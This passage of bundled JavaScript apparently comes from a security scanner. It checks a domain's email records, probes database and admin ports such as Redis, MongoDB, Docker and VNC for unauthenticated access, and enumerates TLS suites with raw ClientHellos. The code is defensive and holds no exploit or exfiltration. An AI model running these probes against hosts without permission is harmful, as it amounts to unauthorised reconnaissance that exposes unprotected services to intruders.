return [ ...mechanisms, ...terms.filter(({kind: kind, name: name}) => kind === "modifier" && name === "redirect") ];
}
function costsLookup({name: name}) {
return LOOKUPS.has(name) || name === "redirect";
}
const evaluate_spf_LOOKUPS_MAX = 30;
const evaluate_spf_DEPTH_MAX = 10;
async function evaluateSpf(resolver, domain) {
const records = await spfRecords(resolver, domain);
const [record] = records;
if (record === undefined || records.length > 1) return {
records: records,
lookups: null,
all: null,
error: null
};
const walk = new SpfWalk(resolver);
const all = await walk.record(record, domain, 0);
return {
records: records,
lookups: walk.lookups,
all: all,
error: walk.error
};
}
async function spfRecords(resolver, domain) {
try {
const records = (await resolver.resolveTxt(domain)).map(chunks => chunks.join(""));
return records.filter(isSpf).slice(0, 10);
} catch (error) {
if (isAbsent(error)) return [];
throw error;
}
}
class SpfWalk {
lookups=0;
error=null;
#resolver;
constructor(resolver) {
this.#resolver = resolver;
}
async record(record, domain, depth) {
const parsed = parseSpf(record);
if ("error" in parsed) {
this.error ??= `${domain}: ${parsed.error}`;
return null;
}
let all = null;
for (const term of effectiveTerms(parsed.terms)) {
if (term.name === "all" && term.kind === "mechanism") all = term.qualifier;
if (!costsLookup(term) || this.lookups >= evaluate_spf_LOOKUPS_MAX) continue;
this.lookups += 1;
const isNested = term.name === "include" || term.name === "redirect";
if (!isNested || term.value.includes("%")) continue;
const nested = await this.#nested(term.value, depth + 1);
if (term.name === "redirect") all = nested;
}
return all;
}
async #nested(domain, depth) {
if (depth > evaluate_spf_DEPTH_MAX) {
this.error ??= "includes are nested more than ten deep";
return null;
}
const records = await spfRecords(this.#resolver, domain).catch(() => null);
const [record] = records ?? [];
if (records === null) return null;
if (record === undefined || records.length > 1) {
this.error ??= `${domain.slice(0, 100)} has ${records.length === 0 ? "no" : "more than one"} SPF record`;
return null;
}
return await this.record(record, domain, depth);
}
}
const gather_email_SERVERS_MAX = 5;
const POLICY_MAX = 65536;
async function gatherEmail(context) {
const {target: target, resolver: resolver} = context;
const domain = target.registrableDomain;
if (target.isIpAddress) return {
state: "not_applicable",
reason: "the target is an IP address"
};
if (target.isLocal || domain === null) return {
state: "not_applicable",
reason: "the name is local and not used for email"
};
try {
const [mx, spf, dmarc, mtaSts, tlsRpt, bimi] = await Promise.all([ exchangers(resolver, domain), evaluateSpf(resolver, domain), recordsAt(resolver, `_dmarc.${domain}`, dmarc_record.OB), orUnknown(recordsAt(resolver, `_mta-sts.${domain}`, mail_records.T1)), orUnknown(recordsAt(resolver, `_smtp._tls.${domain}`, mail_records.kl)), orUnknown(recordsAt(resolver, `default._bimi.${domain}`, mail_records.ef)) ]);
const policy = mtaSts === null || mtaSts.length === 0 ? null : await policyFile(context, domain);
const dane = await orUnknown(Promise.all(mx.slice(0, gather_email_SERVERS_MAX).map(name => daneServer(context, name))));
return {
state: "available",
value: {
domain: domain,
mx: mx,
spf: spf,
dmarc: {
records: dmarc,
error: null
},
mtaSts: {
records: mtaSts,
policy: policy
},
tlsRpt: tlsRpt,
bimi: bimi,
dane: dane?.filter(server => server !== null) ?? null
}
};
} catch {
return {
state: "failed",
code: "dns",
reason: `the DNS records of ${domain} could not be queried`
};
}
}
function orUnknown(query) {
return query.catch(() => null);
}
async function exchangers(resolver, domain) {
try {
const records = await resolver.resolveMx(domain);
const names = records.map(({exchange: exchange}) => exchange.toLowerCase()).filter(name => name !== "" && name !== ".");
return names.sort().slice(0, 20);
} catch (error) {
if (isAbsent(error)) return [];
throw error;
}
}
async function recordsAt(resolver, name, isOne) {
try {
const records = (await resolver.resolveTxt(name)).map(chunks => chunks.join(""));
return records.filter(isOne).slice(0, 10);
} catch (error) {
if (isAbsent(error)) return [];
throw error;
}
}
async function policyFile({fetchForeign: fetchForeign}, domain) {
const attempt = await (fetchForeign?.(`https://mta-sts.${domain}/.well-known/mta-sts.txt`));
if (attempt === undefined) return null;
if (!(0, http.m_)(attempt)) return {
error: "there was no response over HTTPS"
};
const {status: status, text: text} = attempt.response;
return status === 200 ? {
text: text.slice(0, POLICY_MAX)
} : {
error: `the response had status ${status}`
};
}
async function daneServer({resolver: resolver, signal: signal}, name) {
try {
const records = await resolver.resolveTlsa(`_25._tcp.${name}`);
const usages = [ ...new Set(records.slice(0, 20).map(({certUsage: certUsage}) => certUsage)) ].sort((one, other) => one - other);
const [server] = resolver.getServers();
const zone = (0, cjs.FB)(name);
const {signed: signed} = server === undefined || zone === null ? {
signed: null
} : await queryDnssec(server, zone, signal);
return {
name: name,
usages: usages,
isSigned: signed
};
} catch (error) {
if (isAbsent(error)) return null;
throw error;
}
}
const OP_MSG = 2013;
const mongo_message_ELEMENTS_MAX = 200;
function mongoCommand(command) {
const elements = Buffer.concat([ Buffer.from([ 16 ]), cString(command), int32(1), Buffer.from([ 2 ]), cString("$db"), int32(6), cString("admin") ]);
const document = Buffer.concat([ int32(elements.length + 5), elements, Buffer.from([ 0 ]) ]);
return Buffer.concat([ int32(16 + 5 + document.length), int32(1), int32(0), int32(OP_MSG), int32(0), Buffer.from([ 0 ]), document ]);
}
function isWholeMongoMessage(data) {
return data.length >= 16 && data.length >= data.readInt32LE(0);
}
function parseMongoResponse(data) {
if (data.length < 26 || data.readInt32LE(12) !== OP_MSG || data.readUInt8(20) !== 0) return null;
const end = Math.min(data.length, 21 + data.readInt32LE(21));
const fields = new Map;
let at = 25;
for (let count = 0; count < mongo_message_ELEMENTS_MAX && at < end && data[at] !== 0; count += 1) {
const type = data.readUInt8(at);
const nameEnd = data.indexOf(0, at + 1);
if (nameEnd < 0 || nameEnd >= end) break;
const name = data.toString("utf8", at + 1, nameEnd);
const size = valueSize(type, data, nameEnd + 1);
if (size === null || nameEnd + 1 + size > end) break;
const value = bsonValue(type, data.subarray(nameEnd + 1, nameEnd + 1 + size));
if (value !== null) fields.set(name, value);
at = nameEnd + 1 + size;
}
return fields;
}
function valueSize(type, data, at) {
const fixed = {
1: 8,
7: 12,
8: 1,
9: 8,
10: 0,
16: 4,
17: 8,
18: 8,
19: 16
};
const known = fixed[type];
if (known !== undefined) return known;
if (at + 4 > data.length) return null;
const length = data.readInt32LE(at);
if (length < 0) return null;
if (type === 2) return 4 + length;
if (type === 3 || type === 4) return length;
return type === 5 ? 5 + length : null;
}
function bsonValue(type, value) {
if (type === 1) return value.readDoubleLE(0);
if (type === 16) return value.readInt32LE(0);
if (type === 8) return value[0] === 1;
return type === 2 ? value.toString("utf8", 4, Math.max(4, value.length - 1)).slice(0, 200) : null;
}
function int32(value) {
const bytes = Buffer.alloc(4);
bytes.writeInt32LE(value);
return bytes;
}
function cString(text) {
return Buffer.from(`${text}\0`, "utf8");
}
function parseHttpResponse(data) {
const text = data.toString("utf8");
const status = /^HTTP\/1\.[01] (\d{3})/.exec(text)?.[1];
const split = text.indexOf("\r\n\r\n");
if (status === undefined || split < 0) return null;
return {
status: Number(status),
head: text.slice(0, split),
json: jsonObject(text.slice(split + 4))
};
}
function jsonObject(body) {
const from = body.indexOf("{");
const to = body.lastIndexOf("}");
if (from < 0 || to < from) return null;
const value = (0, shared_records.U4)(body.slice(from, to + 1));
return (0, shared_records.u4)(value) ? value : null;
}
const hasLine = data => data.includes(10);
const data_services_text = data => data.toString("latin1");
const redis = async connection => {
const pong = data_services_text(await connection.request("PING\r\n", hasLine));
if (/^-(NOAUTH|DENIED|WRONGPASS|ERR)/.test(pong)) return {
banner: firstLine(pong),
open: null
};
if (!pong.startsWith("+PONG\r\n")) return null;
const info = data_services_text(await connection.request("INFO server\r\n", data => /redis_version:[^\r\n]{0,200}\r\n/.test(data_services_text(data)) || data_services_text(data).startsWith("-")));
const version = /(redis|valkey)_version:[^\r]*/.exec(info)?.[0];
return {
banner: version ?? "PONG",
open: "PING and INFO"
};
};
const memcached = async connection => {
const version = data_services_text(await connection.request("version\r\n", hasLine));
if (!/^VERSION [\d.]+/.test(version)) return null;
const stats = data_services_text(await connection.request("stats\r\n", hasLine));
return {
banner: firstLine(version),
open: stats.startsWith("STAT ") ? "version and stats" : null
};
};
const mongodb = async connection => {
const hello = parseMongoResponse(await connection.request(mongoCommand("hello"), isWholeMongoMessage));
if (hello === null || !(hello.has("maxWireVersion") || hello.has("ok"))) return null;
const banner = `wire version ${String(hello.get("maxWireVersion") ?? "unknown")}`;
const list = parseMongoResponse(await connection.request(mongoCommand("listDatabases"), isWholeMongoMessage));
return {
banner: banner,
open: list?.get("ok") === 1 ? "listDatabases" : null
};
};
const elasticsearch = async connection => {
const response = parseHttpResponse(await connection.request(get("/"), isWholeHttp));
if (response === null) return null;
const {status: status, json: json, head: head} = response;
if (status === 401 && /x-elastic-product|WWW-Authenticate: \w+ realm="(security|OpenSearch)/i.test(head)) return {
banner: "requires authentication",
open: null
};
const tagline = typeof json?.["tagline"] === "string" ? json["tagline"] : "";
if (status !== 200 || !/You Know, for Search|The OpenSearch Project/.test(tagline)) return null;
return {
banner: `cluster ${String(json?.["cluster_name"] ?? "unnamed")}`,
open: "GET /"
};
};
const docker = async connection => {
const response = parseHttpResponse(await connection.request(get("/version"), isWholeHttp));
if (response?.status !== 200 || typeof response.json?.["ApiVersion"] !== "string" || !("MinAPIVersion" in response.json)) return null;
return {
banner: `Docker Engine API ${response.json["ApiVersion"]}`,
open: "GET /version"
};
};
const couchdb = async connection => {
const response = parseHttpResponse(await connection.request(get("/"), isWholeHttp));
if (response?.status !== 200 || response.json?.["couchdb"] !== "Welcome") return null;
return {
banner: `CouchDB ${String(response.json["version"] ?? "")}`.trim(),
open: null
};
};
const postgresql = async connection => {
const response = await connection.request(Buffer.from("0000000804d2162f", "hex"), data => data.length >= 1);
if (response.length !== 1 || response[0] !== 83 && response[0] !== 78) return null;
return {
banner: response[0] === 83 ? "offers TLS" : "without TLS",
open: null
};
};
const data_services_mysql = async connection => {
const greeting = await connection.read(data => data.length >= 4 && data.length >= 4 + data.readUIntLE(0, 3));
if (greeting.length < 8 || greeting[3] !== 0) return null;
if (greeting[4] === 10) {
const end = greeting.indexOf(0, 5);
const version = data_services_text(greeting.subarray(5, Math.max(5, end)));
return end > 5 && /^[\w.+~-]+$/.test(version) ? {
banner: `version ${version}`,
open: null
} : null;
}
const isError = greeting[4] === 255 && /host|mysql|mariadb|connection/i.test(data_services_text(greeting));
return isError ? {
banner: "refuses this host",
open: null
} : null;
};
const mssql = async connection => {
const body = Buffer.from("00000b00060100110001ff00000000000002", "hex");
const packet = Buffer.concat([ Buffer.from([ 18, 1, 0, 8 + body.length, 0, 0, 0, 0 ]), body ]);
const response = await connection.request(packet, data => data.length >= 8 && data.length >= data.readUInt16BE(2));
return response.length >= 20 && response[0] === 4 && response[8] === 0 ? {
banner: "responds to PRELOGIN",
open: null
} : null;
};
const cassandra = async connection => {
const response = await connection.request(Buffer.from("040000000500000000", "hex"), data => data.length >= 9);
return response.length >= 9 && (response[0] ?? 0) >= 131 && response[4] === 6 ? {
banner: "responds to OPTIONS",
open: null
} : null;
};
function get(path) {
return `GET ${path} HTTP/1.0\r\nHost: localhost\r\nAccept: application/json\r\nConnection: close\r\n\r\n`;
}
function isWholeHttp(data) {
const head = data.indexOf("\r\n\r\n");
if (head < 0) return false;
const length = /\r\ncontent-length: *(\d+)/i.exec(data_services_text(data.subarray(0, head)))?.[1];
return length !== undefined && data.length >= head + 4 + Number(length);
}
function firstLine(response) {
return (/^[^\r\n]*/.exec(response)?.[0] ?? "").slice(0, 120);
}
const port_connection_BYTES_MAX = 65536;
class PortConnection {
#socket;
#signal;
#timeoutMs;
#received=Buffer.alloc(0);
#isClosed=false;
#wake=null;
constructor(socket, options) {
this.#socket = socket;
this.#signal = options.signal;
this.#timeoutMs = options.timeoutMs;
socket.on("error", () => undefined);
socket.on("data", chunk => {
if (this.#received.length < port_connection_BYTES_MAX) this.#received = Buffer.concat([ this.#received, chunk ]).subarray(0, port_connection_BYTES_MAX);
this.#wake?.();
});
for (const event of [ "close", "end" ]) socket.once(event, () => {
this.#isClosed = true;
this.#wake?.();
});
}
async request(bytes, enough) {
this.#received = Buffer.alloc(0);
if (!this.#isClosed && bytes.length > 0) this.#socket.write(bytes);
return await this.read(enough);
}
async read(enough) {
const deadline = performance.now() + this.#timeoutMs;
while (!this.#isClosed && !this.#signal.aborted && this.#received.length < port_connection_BYTES_MAX && !enough(this.#received)) {
const left = deadline - performance.now();
if (left <= 0) break;
await this.#event(left);
}
return this.#received;
}
close() {
this.#socket.destroy();
}
#event(milliseconds) {
return new Promise(resolve => {
const finish = () => {
clearTimeout(timer);
this.#signal.removeEventListener("abort", finish);
this.#wake = null;
resolve();
};
const timer = setTimeout(finish, milliseconds);
this.#signal.addEventListener("abort", finish, {
once: true
});
this.#wake = finish;
});
}
}
const gather_ports_text = data => data.toString("latin1");
const ftp = async connection => {
const greeting = gather_ports_text(await connection.read(data => /(?:^|\n)220 [^\r\n]*\r?\n/.test(gather_ports_text(data))));
if (!/^220[ -]/.test(greeting) || /\bE?SMTP\b/i.test(greeting)) return null;
const features = gather_ports_text(await connection.request("FEAT\r\n", data => /(?:^|\n)(?:211|5\d\d) [^\r\n]*\r?\n/.test(gather_ports_text(data))));
if (!/^(211|5\d\d)[ -]/.test(features)) return null;
if (/^ *AUTH +(TLS|SSL)/im.test(features)) return null;
return {
banner: printable(greeting),
open: null
};
};
const telnet = async connection => {
const greeting = await connection.read(data => data.length >= 3);
const command = greeting[1] ?? 0;
if (greeting[0] !== 255 || command < 251 || command > 254) return null;
return {
banner: "negotiates telnet options",
open: null
};
};
const vnc = async connection => {
const greeting = gather_ports_text(await connection.read(data => data.length >= 12));
const version = /^RFB (\d{3}\.\d{3})\n/.exec(greeting)?.[1];
if (version === undefined) return null;
const types = await connection.request("RFB 003.008\n", data => data.length >= 1 && data.length >= 1 + (data[0] ?? 0));
const isOpen = types.subarray(1, 1 + (types[0] ?? 0)).includes(1);
return {
banner: `RFB ${version}`,
open: isOpen ? "a session without a password" : null
};
};
const rsync = async connection => {
const greeting = gather_ports_text(await connection.read(data => data.includes(10)));
return /^@RSYNCD: \d+/.test(greeting) ? {
banner: printable(greeting),
open: null
} : null;
};
function printable(greeting) {
return (/^[^\r\n]*/.exec(greeting)?.[0] ?? "").replace(/[^\x20-\x7e]/g, "?").slice(0, 120);
}
const DATA_SERVICES = [ {
port: 1433,
service: "Microsoft SQL Server",
kind: "data",
handshake: mssql
}, {
port: 2375,
service: "Docker",
kind: "data",
handshake: docker
}, {
port: 3306,
service: "MySQL",
kind: "data",
handshake: data_services_mysql
}, {
port: 5432,
service: "PostgreSQL",
kind: "data",
handshake: postgresql
}, {
port: 5984,
service: "CouchDB",
kind: "data",
handshake: couchdb
}, {
port: 6379,
service: "Redis",
kind: "data",
handshake: redis
}, {
port: 9042,
service: "Cassandra",
kind: "data",
handshake: cassandra
}, {
port: 9200,
service: "Elasticsearch",
kind: "data",
handshake: elasticsearch
}, {
port: 11211,
service: "memcached",
kind: "data",
handshake: memcached
}, {
port: 27017,
service: "MongoDB",
kind: "data",
handshake: mongodb
} ];
const ADMIN_SERVICES = [ {
port: 21,
service: "FTP",
kind: "admin",
handshake: ftp
}, {
port: 23,
service: "Telnet",
kind: "admin",
handshake: telnet
}, {
port: 873,
service: "rsync",
kind: "admin",
handshake: rsync
}, {
port: 5900,
service: "VNC",
kind: "admin",
handshake: vnc
} ];
const RESPONSE_TIMEOUT_MS = 1500;
function gatherPorts(context) {
const isDeep = context.scanType === "compliance";
return gatherServices(context, isDeep ? [ ...DATA_SERVICES, ...ADMIN_SERVICES ] : DATA_SERVICES);
}
async function gatherServices(context, services, timeoutMs = RESPONSE_TIMEOUT_MS) {
const others = services.filter(({port: port}) => port !== context.target.port);
const ports = await Promise.all(others.map(service => probe(context, service, timeoutMs)));
return {
state: "available",
value: {
ports: ports
}
};
}
async function probe(context, {port: port, service: service, kind: kind, handshake: handshake}, timeoutMs) {
const closed = {
port: port,
service: service,
kind: kind,
open: false,
proved: false,
unauthenticated: false,
opened: null,
banner: ""
};
let connection;
try {
connection = new PortConnection(await context.connect(port), {
timeoutMs: timeoutMs,
signal: context.signal
});
} catch (error) {
if (error instanceof ProbeError) return closed;
throw error;
}
try {
const response = await handshake(connection);
if (response === null) return {
...closed,
open: true
};
return {
...closed,
open: true,
proved: true,
unauthenticated: response.open !== null,
opened: response.open,
banner: response.banner
};
} finally {
connection.close();
}
}
var code_points = __webpack_require__(45396);
const WIRE_VERSIONS = {
SSLv3: 768,
"TLSv1.0": 769,
"TLSv1.1": 770,
"TLSv1.2": 771,
"TLSv1.3": 772
};
const SIGNATURE_SCHEMES = [ 1027, 2052, 1025, 1283, 2053, 1281, 2054, 1537, 1539, 2055, 2056, 2057, 2058, 2059, 1026, 1282, 1538, 771, 769, 770, 515, 513, 514, 257, 259, 2074, 2075, 2076 ];
const FEW_SIGNATURE_SCHEMES = [ 1027, 2052, 1025, 1281, 1537, 515, 513, 514 ];
const FEW_GROUPS = [ 29, 23, 24, 25 ];
const u8 = value => Buffer.from([ value ]);
const u16 = value => Buffer.from([ value >> 8, value & 255 ]);
const list16 = values => Buffer.concat(values.map(u16));
const with8 = body => Buffer.concat([ u8(body.length), body ]);
const with16 = body => Buffer.concat([ u16(body.length), body ]);
const extension = (type, body) => Buffer.concat([ u16(type), with16(body) ]);
function clientHello(options) {
const isTls13 = options.version === "TLSv1.3";
const signaling = [ ...isTls13 ? [] : [ code_points.v3 ], ...options.fallback === true ? [ code_points.v4 ] : [] ];
const head = Buffer.concat([ u16(isTls13 ? 771 : WIRE_VERSIONS[options.version]), options.random ?? (0, 
external_node_crypto_.randomBytes)(32), with8(options.sessionId ?? (isTls13 ? (0, 
external_node_crypto_.randomBytes)(32) : Buffer.alloc(0))), with16(list16([ ...options.suites, ...signaling ])), with8(options.offerCompression === true ? Buffer.from([ 1, 64, 0 ]) : Buffer.from([ 0 ])) ]);
const parts = options.version === "SSLv3" ? [] : extensions(options, isTls13);
const plain = Buffer.concat([ head, ...parts.length === 0 ? [] : [ with16(Buffer.concat(parts)) ] ]);
const total = plain.length + 4;
if (options.small === true || parts.length === 0 || total < 256 || total > 511) return message(plain);
const padding = extension(21, Buffer.alloc(Math.max(0, 512 - total - 4)));
return message(Buffer.concat([ head, with16(Buffer.concat([ ...parts, padding ])) ]));
}
function toRecord(handshake, version) {
return Buffer.concat([ u8(22), u16(version === "SSLv3" ? 768 : 769), with16(handshake) ]);
}
function ssl2ClientHello() {
const kinds = Buffer.concat(code_points.rd.map(kind => Buffer.from([ kind >> 16, kind >> 8 & 255, kind & 255 ])));
const body = Buffer.concat([ u8(1), u16(2), u16(kinds.length), u16(0), u16(16), kinds, (0, 
external_node_crypto_.randomBytes)(16) ]);
return Buffer.concat([ u16(32768 | body.length), body ]);
}
function message(body) {
return Buffer.concat([ u8(1), u8(body.length >> 16), u16(body.length & 65535), body ]);
}
function extensions(options, isTls13) {
const isSmall = options.small === true;
const parts = [];
if (options.serverName !== undefined) parts.push(extension(0, with16(Buffer.concat([ u8(0), with16(Buffer.from(options.serverName, "latin1")) ]))));
const groups = options.groups ?? (isSmall ? FEW_GROUPS : isTls13 ? code_points.FV : code_points.H1);
parts.push(extension(10, with16(list16(groups))));
if (!isTls13) parts.push(extension(11, with8(Buffer.from([ 0 ]))));
if (options.version === "TLSv1.2" || isTls13) parts.push(extension(13, with16(list16(isSmall ? FEW_SIGNATURE_SCHEMES : SIGNATURE_SCHEMES))));
if (options.heartbeat === true) parts.push(extension(15, u8(1)));
if (isTls13) {
parts.push(extension(43, with8(u16(772))));
const shares = (options.keyShares ?? []).map(share => Buffer.concat([ u16(share.group), with16(share.publicKey) ]));
if (options.cookie !== undefined) parts.push(extension(44, with16(options.cookie)));
parts.push(extension(45, with8(u8(1))));
parts.push(extension(51, with16(Buffer.concat(shares))));
}
return parts;
}
var suite_traits = __webpack_require__(63487);
function parseServerKeyExchange(suite, body) {
const traits = (0, suite_traits.S$)(suite);
let at = 0;
const vector = () => {
if (at + 2 > body.length) return null;
const end = at + 2 + body.readUInt16BE(at);
if (end > body.length) return null;
const value = body.subarray(at + 2, end);
at = end;
return value;
};
if (/PSK/.test(suite) && vector() === null) return null;
if (traits.isDhe) {
const prime = vector();
const generator = vector();
const publicValue = vector();
if (prime === null || generator === null || publicValue === null || prime.length === 0) return null;
return {
kind: "dh",
prime: stripZeros(prime),
generator: stripZeros(generator),
publicValue: publicValue
};
}
if (traits.isEcdhe && body.length >= at + 3 && body.readUInt8(at) === 3) return {
kind: "ecdh",
group: body.readUInt16BE(at + 1)
};
return null;
}
function bitLength(value) {
const first = value.findIndex(byte => byte !== 0);
if (first < 0) return 0;
return (value.length - first) * 8 - (Math.clz32(value[first] ?? 0) - 24);
}
function stripZeros(value) {
const first = value.findIndex(byte => byte !== 0);
return first <= 0 ? value : value.subarray(first);
}
const isPrime = (0, external_node_util_.promisify)(external_node_crypto_.checkPrime);
const TESTED_BITS_MAX = 4096;
const dh_prime_ROUNDS = 32;
let knownSafe = null;
const VERDICTS_MAX = 64;
const verdicts = new Map;
async function judgePrime(prime) {
if (isWellKnown(prime)) return "safe";
if (bitLength(prime) > TESTED_BITS_MAX) return null;
const hex = prime.toString("hex");
const known = verdicts.get(hex) ?? testPrime(hex);
verdicts.delete(hex);
verdicts.set(hex, known);
const [oldest] = verdicts.keys();
if (verdicts.size > VERDICTS_MAX && oldest !== undefined) verdicts.delete(oldest);
return await known;
}
async function testPrime(hex) {
const value = BigInt(`0x0${hex}`);
if (value < 5n || value % 2n === 0n) return "composite";
if (!await isPrime(value, {
checks: dh_prime_ROUNDS
})) return "composite";
return await isPrime((value - 1n) / 2n, {
checks: dh_prime_ROUNDS
}) ? "safe" : "prime-not-safe";
}
function isWellKnown(prime) {
knownSafe ??= new Set([ "modp1", "modp2", "modp5", "modp14", "modp15", "modp16", "modp17", "modp18" ].flatMap(name => {
try {
return [ (0, external_node_crypto_.getDiffieHellman)(name).getPrime("hex") ];
} catch {
return [];
}
}));
return knownSafe.has(prime.toString("hex"));
}
const WEAK_FAMILIES = [ traits => traits.isNull, traits => traits.isAnonymous && !traits.isNull, traits => traits.isExport, traits => traits.legacyCipher !== null && !traits.isExport && !traits.isAnonymous, traits => traits.isDhe && !traits.isExport && traits.legacyCipher === null && !traits.isNull ];
const OTHER_FAMILIES = [ traits => !traits.isForwardSecret && !isWeak(traits), traits => traits.isCbc && traits.isForwardSecret && !isWeak(traits), traits => traits.isAead ];
function isWeak(traits) {
return traits.isNull || traits.isAnonymous || traits.isExport || traits.legacyCipher !== null;
}
async function findFamilies(survey, families) {
await Promise.all(families.map(async belongs => {
const isMember = code => belongs((0, suite_traits.S$)((0, code_points.Qx)(code)));
const open = survey.undecided.filter(isMember);
for (const suites of survey.chunks(open)) {
const response = await survey.offer(suites);
if (response.kind === "accepted" || response.kind === "skipped") break;
}
}));
}
const LISTS = 8;
const BUSY_LISTS = 4;
const SPLIT_LENGTH = 12;
async function enumerateSuites(survey, session, allowance) {
const open = survey.undecided;
const count = Math.min(open.length, Math.max(LISTS, survey.chunks(open).length));
let lists = Array.from({
length: count
}, (_, index) => open.filter((_code, position) => position % count === index));
let left = allowance;
while (lists.length > 0) {
lists = split(lists);
if (lists.length > left) {
session.stop(`the budget of ${session.limit} TLS connections`);
return;
}
left -= lists.length;
const responses = await Promise.all(lists.map(suites => survey.offer(suites)));
const undecided = new Set(survey.undecided);
lists = lists.filter((_, index) => responses[index]?.kind === "accepted").map(suites => suites.filter(code => undecided.has(code))).filter(suites => suites.length > 0);
}
}
function split(lists) {
return lists.flatMap(suites => {
if (lists.length >= BUSY_LISTS || suites.length < SPLIT_LENGTH) return [ [ ...suites ] ];
const half = Math.ceil(suites.length / 2);
return [ suites.slice(0, half), suites.slice(half) ];
});
}
const RETRY_RANDOM = "cf21ad74e59a6111be1d8c021e65b891c2a211167abb8c5e079e09e2c8a8339c";
function parseServerHello(body) {
if (body.length < 38) return null;
const sessionIdLength = body.readUInt8(34);
const at = 35 + sessionIdLength;
if (sessionIdLength > 32 || body.length < at + 3) return null;
const extensions = parseExtensions(body.subarray(at + 3));
if (extensions === null) return null;
const selected = extensions.get(43);
const legacyVersion = body.readUInt16BE(0);
return {
version: legacyVersion === 771 && selected?.length === 2 ? selected.readUInt16BE(0) : legacyVersion,
suite: body.readUInt16BE(at),
compression: body.readUInt8(at + 2),
isRetry: body.subarray(2, 34).toString("hex") === RETRY_RANDOM,
extensions: extensions
};
}
function keyShareOf(hello) {
const share = hello.extensions.get(51);
if (share === undefined || share.length < 2) return null;
const group = share.readUInt16BE(0);
if (hello.isRetry) return share.length === 2 ? {
group: group,
publicKey: Buffer.alloc(0)
} : null;
if (share.length < 4 || share.readUInt16BE(2) !== share.length - 4) return null;
return {
group: group,
publicKey: share.subarray(4)
};
}
function parseExtensions(block) {
const found = new Map;
if (block.length === 0) return found;
if (block.length < 2 || block.readUInt16BE(0) !== block.length - 2) return null;
for (let at = 2; at < block.length; ) {
if (at + 4 > block.length) return null;
const end = at + 4 + block.readUInt16BE(at + 2);
if (end > block.length) return null;
found.set(block.readUInt16BE(at), block.subarray(at + 4, end));
at = end;
}
return found;
}
function parseSsl2ServerHello(data) {
if (data.length < 13 || (data.readUInt8(0) & 128) === 0) return null;
const length = data.readUInt16BE(0) & 32767;
if (length < 11 || data.length < length + 2) return null;
const body = data.subarray(2, length + 2);
if (body.readUInt8(0) !== 4 || body.readUInt16BE(3) !== 2) return null;
const certificateEnd = 11 + body.readUInt16BE(5);
const kindsEnd = certificateEnd + body.readUInt16BE(7);
if (kindsEnd > body.length) return null;
const kinds = [];
for (let at = certificateEnd; at + 3 <= kindsEnd; at += 3) kinds.push(body.readUIntBE(at, 3));
return {
kinds: kinds,
certificate: body.subarray(11, certificateEnd)
};
}
const GROUPS_MAX = 24;
async function findTls13Groups(session) {
return await peelGroups(code_points.FV, async groups => {
const response = await session.handshake({
version: "TLSv1.3",
suites: [ 4865, 4866, 4867, 4868 ],
groups: groups,
keyShares: [],
until: "hello"
});
const hello = response.kind === "accepted" ? response.flight?.hello : null;
return hello == null ? null : keyShareOf(hello)?.group ?? null;
});
}
async function findCurves(session, version) {
const suites = (0, suite_traits.f3)(version).filter(code => (0, suite_traits.S$)((0, 
code_points.Qx)(code)).isEcdhe).slice(0, 60);
return await peelGroups(code_points.H1, async groups => {
const response = await session.handshake({
version: version,
suites: suites,
groups: groups,
until: "flight"
});
const {hello: hello, keyExchange: keyExchange} = (response.kind === "accepted" ? response.flight : null) ?? {};
if (hello == null || keyExchange == null) return null;
const parameters = parseServerKeyExchange((0, code_points.Qx)(hello.suite), keyExchange);
return parameters?.kind === "ecdh" ? parameters.group : null;
});
}
async function peelGroups(all, ask) {
const found = [];
let rest = all;
while (rest.length > 0 && found.length < GROUPS_MAX) {
const group = await ask(rest);
if (group === null || !rest.includes(group)) break;
found.push(group);
rest = rest.filter(code => code !== group);
}
return found;
}
const BY_CODE = {
ECONNREFUSED: "refused",
ECONNRESET: "reset",
EPIPE: "reset",
ECONNABORTED: "reset",
ETIMEDOUT: "timeout",
ENOTFOUND: "dns",
EAI_AGAIN: "dns",
EHOSTUNREACH: "unreachable",
ENETUNREACH: "unreachable",
EADDRNOTAVAIL: "unreachable",
EHOSTDOWN: "unreachable",
EACCES: "unreachable",
EPROTO: "tls"
};
function failureOf(error) {
const {code: code = "", message: message = ""} = error;
if (code.startsWith("HPE_")) return {
code: "protocol",
message: `the response is not valid HTTP (${code})`
};
if (code.startsWith("ERR_SSL") || code.startsWith("ERR_TLS")) {
return {
code: "tls",
message: `the TLS handshake failed (${code})`
};
}
const known = (0, shared_records.eC)(BY_CODE, code);
if (known !== undefined) return {
code: known,
message: `${describe(known)} (${code})`
};
if (message.includes("socket disconnected before secure TLS")) {
return {
code: "tls",
message: "the server closed the connection during the TLS handshake"
};
}
return {
code: "protocol",
message: code === "" ? "the response could not be read" : `the request failed (${code})`
};
}
function describe(code) {
switch (code) {
case "refused":
return "the connection was refused";

case "reset":
return "the server closed the connection";

case "timeout":
return "the connection timed out";

case "dns":
return "the name could not be resolved";

case "unreachable":
return "the address is unreachable";

default:
return "the TLS handshake failed";
}
}
function connectTcp(address, port, timeoutMs, signal) {
return new Promise((resolve, reject) => {
if (signal.aborted) {
reject(new ProbeError("aborted", "the scan ended"));
return;
}
const socket = external_node_net_.connect({
host: address,
port: port,
noDelay: true
});
const fail = error => {
settle();
socket.on("error", () => undefined);
socket.destroy();
reject(error);
};
const timer = setTimeout(() => fail(new ProbeError("timeout", `no connection within ${timeoutMs} ms`)), timeoutMs);
const onAbort = () => fail(new ProbeError("aborted", "the scan ended"));
const onError = cause => {
const {code: code, message: message} = failureOf(cause);
const known = code === "refused" || code === "unreachable" || code === "timeout" || code === "reset";
fail(new ProbeError(known ? code : "unreachable", message, {
cause: cause
}));
};
const settle = () => {
clearTimeout(timer);
signal.removeEventListener("abort", onAbort);
socket.off("error", onError);
};
signal.addEventListener("abort", onAbort, {
once: true
});
socket.once("error", onError);
socket.once("connect", () => {
settle();
socket.on("error", () => undefined);
resolve(socket);
});
});
}
function exchangeBytes(socket, bytes, enough, timeoutMs, signal) {
return new Promise(resolve => {
let received = Buffer.alloc(0);
const finish = () => {
clearTimeout(timer);
signal.removeEventListener("abort", finish);
socket.destroy();
resolve(received);
};
const timer = setTimeout(finish, timeoutMs);
signal.addEventListener("abort", finish, {
once: true
});
socket.on("error", finish);
socket.on("close", finish);
socket.on("data", chunk => {
received = Buffer.concat([ received, chunk ]);
if (enough(received) || received.length > 65536) finish();
});
if (signal.aborted || socket.destroyed) finish(); else socket.write(bytes);
});
}
const NIST_CURVES = {
23: "prime256v1",
24: "secp384r1",
25: "secp521r1"
};
const MONTGOMERY = {
29: {
type: "x25519",
bytes: 32,
